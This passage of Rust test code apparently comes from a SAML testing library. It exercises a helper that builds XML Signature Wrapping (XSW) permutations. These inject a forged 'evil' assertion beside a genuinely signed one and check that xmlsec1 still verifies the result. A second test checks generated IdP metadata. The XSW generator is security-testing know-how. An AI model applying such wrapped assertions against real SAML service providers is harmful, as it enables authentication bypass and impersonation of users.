                let genuine_id = if wraps_response { &spec.response_id } else { &spec.assertion_id };
                let out = xsw(&signed, n, EVIL);
                let case = format!("XSW{n} (response signed {sign_response}, assertion signed {sign_assertion})");
                let doc = roxmltree::Document::parse(&out).unwrap_or_else(|e| panic!("{case}: {e}\n{out}"));
                assert!(out.contains(EVIL), "{case}");
                assert!(out.contains(&signature_value(&signed, genuine_id)), "{case}: genuine SignatureValue kept");
                assert_eq!(signature_value(&out, genuine_id), signature_value(&signed, genuine_id), "{case}");
                let with_id = |id: &str| doc.descendants().filter(|e| e.attribute("ID") == Some(id)).count();
                assert_eq!(with_id(genuine_id), 1, "{case}: the genuine element once");
                assert_eq!(with_id(EVIL_ASSERTION_ID), 1, "{case}: one evil assertion");
                assert_eq!(with_id(EVIL_RESPONSE_ID), usize::from(wraps_response), "{case}");
                let names: Vec<_> = doc
                    .descendants()
                    .filter(|e| e.has_tag_name((NS_ASSERTION, "NameID")))
                    .map(|e| e.text().unwrap())
                    .collect();
                assert!(names.contains(&EVIL) && names.contains(&"user-1234"), "{case}: {names:?}");
                // xmlsec1's enveloped-signature transform drops everything inside the signature element, so
                // the permutations that put the signed copy inside ds:Signature (1, 6, 8) only verify on
                // verifiers that merely remove the signature from the referenced subtree.
                if ![1, 6, 8].contains(&n) {
                    xmlsec1_verify(&out, &keys, &signature_over(genuine_id)).unwrap_or_else(|e| panic!("{case}: {e}"));
                }
            }
        }
    }

    #[test]
    fn saml_support_idp_metadata_names_the_issuer() {
        let keys = IdpKeys::generate("saml-support-idp");
        let sso = "http://127.0.0.1:9/sso?x=1&y=2";
        let xml = idp_metadata(IDP, sso, &keys);
        let doc = roxmltree::Document::parse(&xml).unwrap();
        assert_eq!(doc.root_element().attribute("entityID"), Some(IDP));
        let md = samael::metadata::EntityDescriptor::from_str(&xml).expect("samael reads the metadata");
        assert_eq!(md.entity_id.as_deref(), Some(IDP));
        let idp = &md.idp_sso_descriptors.expect("an IDPSSODescriptor")[0];
        assert_eq!(idp.protocol_support_enumeration.as_deref(), Some(NS_PROTOCOL));
        assert_eq!(idp.name_id_formats, [NAMEID_PERSISTENT]);
        assert_eq!(idp.single_sign_on_services[0].location, sso);
        let cert = doc.descendants().find(|n| n.has_tag_name((NS_DSIG, "X509Certificate"))).unwrap();
        assert_eq!(cert.text(), Some(keys.cert_der_b64().as_str()));
        assert!(keys.key_pem.contains("PRIVATE KEY") && keys.cert_pem.contains("BEGIN CERTIFICATE"));
    }
}
